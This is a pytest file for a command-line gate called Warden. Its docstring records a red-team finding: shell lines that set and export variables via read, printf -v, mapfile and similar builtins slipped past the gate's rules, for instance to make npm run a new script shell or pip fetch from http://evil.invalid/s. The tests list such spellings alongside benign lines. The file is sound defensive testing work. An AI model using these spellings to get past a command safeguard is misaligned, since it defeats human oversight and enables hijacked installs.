"""Red team 90 F7: a variable the line sets by ``read``, ``printf -v``, ``eval``, ``mapfile``,
``getopts``, ``${NAME:=v}``, ``let``/``(( ))``, ``declare -u``, or an ``export`` of a computed
name, and exports, reached the programs after it with a value no rule read: only PATH and
the Python variables were read as unknown there, every other rule read the name's OLD value
(``read npm_config_script_shell < v.txt; export npm_config_script_shell; npm test`` ran the
cell's new program as npm's script shell, unread).

Fixed (``unknown_exports``): a program started with such an exported name is refused, whatever
the name (deny by default: the rules read dozens of names), but for the few the shell sets
for its own builtins. No false refusals: a name the line keeps to itself (``read -r name < f;
echo $name``, ``read X; ls``), a plain ``export NAME=value``, a function that assigns nothing."""

import pytest
from install_env import line_problems
from launched import installed
from test_redteam86b_login_shell_path import _full_path_payload
from test_redteam90_program_variables import WRITE

# each runs `npm test`, whose script shell the line sets to the cell's new tools/mytool
CELLS = {
    "read": "open('v.txt', 'w').write('tools/mytool\\n')\n"
    "os.system('read npm_config_script_shell < v.txt; export npm_config_script_shell; npm test')\n",
    # refused before this fix too (eval's text read as one that may write): a control
    "eval": "os.system('eval \"export npm_config_script_shell=tools/mytool\"; npm test')\n",
    "default-assignment": "os.system(': ${{npm_config_script_shell:=tools/mytool}}; "
    "export npm_config_script_shell; npm test')\n",
    "printf-v": "subprocess.run(['bash', '-c', 'printf -v npm_config_script_shell %s "
    "tools/mytool; export npm_config_script_shell; npm test'])\n",
}


@pytest.mark.parametrize("form", list(CELLS))
def test_an_exported_name_set_unread_reaches_npm(kernel, form):
    """Installs without Warden (npm runs tools/mytool, which installs), refused with it."""
    installed("npm")
    cell = WRITE.format(payload=_full_path_payload(kernel)) + CELLS[form]
    guarded = kernel.kept_from_refused_host(cell)
    assert guarded["refused"], guarded


# -- the spellings, read as the kernel's gate reads a line ---------------------------------------


@pytest.fixture
def work(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "package.json").write_text('{"name": "x", "version": "1.0.0"}')
    (tmp_path / "v.txt").write_text("x\n")
    return tmp_path


@pytest.mark.parametrize(
    "line",
    [
        "read npm_config_script_shell < v.txt; export npm_config_script_shell; npm test",
        "export npm_config_script_shell; read npm_config_script_shell < v.txt; npm test",
        "printf -v PIP_INDEX_URL %s http://evil.invalid/s; export PIP_INDEX_URL; pip install x",
        "eval 'export PIP_CONFIG_FILE=/tmp/x.conf'; pip install x",
        "read HOME < v.txt; git status",
        "printf -v SSH_CLIENT %s 1; export SSH_CLIENT; bash -c true",
        "let SHLVL=0; bash -c true",
        "(( SHLVL = 0 )); /bin/bash -c true",
        "mapfile -t EDITOR < v.txt; export EDITOR; sensible-editor f",
        "getopts ab UV_INDEX_URL; export UV_INDEX_URL; uv pip install x",
        ": ${GIT_DIR:=x}; export GIT_DIR; git status",
        "declare -u EDITOR=vim; export EDITOR; sensible-editor f",
        "set -a; read CONDARC < v.txt; conda install x",
        "declare -x X; read X < v.txt; ls",
        "export $(grep -v '^#' .env | xargs); python3 train.py",
        "read PATH < v.txt; export PATH; /bin/tar czf o.tgz v.txt",
    ],
)
def test_an_exported_name_set_unread_is_refused(work, line):
    assert line_problems(line, work), line


@pytest.mark.parametrize(
    "line",
    [
        "export PIP_NO_COLOR=1; pip install x",
        "read -r name < v.txt; echo $name",
        "read X < v.txt; ls",
        "f() { echo hi; }; f; pip install x",
        "for i in 1 2; do echo $i; done; ls",
        "declare -i n=0; ls",
        "read X < v.txt; export X; X=1 ls",
        "while read -r line; do echo $line; done < v.txt; ls",
    ],
)
def test_a_name_kept_in_the_shell_passes(work, line):
    assert line_problems(line, work) == [], line


def test_the_refusal_names_the_variable(work):
    (found,) = line_problems("read EDITOR < v.txt; export EDITOR; ls", work)
    assert "EDITOR" in found and "NAME=value" in found, found
